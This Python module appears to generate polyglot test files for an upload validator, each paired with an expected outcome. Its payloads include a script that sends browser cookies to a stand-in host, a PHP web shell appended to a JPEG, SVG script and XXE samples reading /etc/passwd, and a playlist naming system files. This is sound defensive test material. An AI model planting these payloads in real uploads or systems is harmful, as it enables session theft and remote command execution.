"""Make files that are two things at once, and such as carry what a browser would run."""

from __future__ import annotations

from collections.abc import Iterator

from archive.specimens.hostile import whole
from archive.specimens.hostile.packs import zipped
from archive.specimens.hostile.types import TAKEN, Case

_PAGE = b"<html><body><script>document.location='http://127.0.0.1:9/'+document.cookie</script></body></html>"
_SCRIPTED = (
    "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><script>alert(1)</script></svg>",
    "<!DOCTYPE svg [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><svg xmlns='http://www.w3.org/2000/svg'>&e;</svg>",
    "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><image href='http://127.0.0.1:9/x'/></svg>",
)


def polyglots() -> Iterator[Case]:
    """Yield them; one that is taken is taken as what its first bytes say and handed out as nothing else."""
    jar = zipped({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\n", "Kirish.class": b"\xca\xfe\xba\xbe"})
    yield Case("gifar.gif", whole.picture("gif", 800) + jar, TAKEN, "A GIF and a Java archive.")
    yield Case("jpeg va zip.jpg", whole.picture("jpeg", 801) + jar, TAKEN, "A JPEG and a zip.")
    yield Case("png va zip.png", whole.picture("png", 802) + jar, TAKEN, "A PNG and a zip.")
    yield Case("pdf va zip.pdf", whole.pdf(803) + jar, TAKEN, "A PDF and a zip.")
    yield Case("pdf va html.pdf", whole.pdf(804).replace(b"\n", b"\n%" + _PAGE + b"\n", 1), TAKEN, "A PDF and a page.")
    comment = b"\xff\xfe" + (len(_PAGE) + 2).to_bytes(2, "big") + _PAGE
    jpeg = whole.picture("jpeg", 805)
    yield Case("jpeg va html.jpg", jpeg[:2] + comment + jpeg[2:], TAKEN, "A JPEG with a page in its comment.")
    yield Case("jpeg va html.html", whole.picture("jpeg", 806) + _PAGE, TAKEN, "The same under the name of a page.")
    yield Case(
        "jpeg va php.php", whole.picture("jpeg", 807) + b"<?php system($_GET['c']); ?>", TAKEN, "A JPEG and PHP."
    )
    yield Case("jpeg va pdf.pdf", whole.picture("jpeg", 808) + whole.pdf(809), TAKEN, "A JPEG and a PDF.")
    yield Case("gif va js.js", whole.picture("gif", 810) + b"=1;alert(1)//", TAKEN, "A GIF and a script.")
    yield Case("bmp va html.bmp", whole.picture("bmp", 811) + _PAGE, TAKEN, "A BMP and a page.")
    yield Case("wav va html.wav", whole.recording(".wav") + _PAGE, TAKEN, "A WAV and a page.")
    for number, content in enumerate(_SCRIPTED):
        yield Case(f"skript {number}.svg", content.encode(), "unsupported_type", "A drawing that runs a script.")
        yield Case(f"skript {number}.jpg", content.encode() + b"\n", "unsupported_type", "The same, called a JPEG.")
    playlist = b"#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n"
    for name in ("ijro.m3u8", "ijro.mp4", "ijro.mp3"):
        yield Case(name, playlist + name.encode(), "unsupported_type", "A playlist that names files of the machine.")
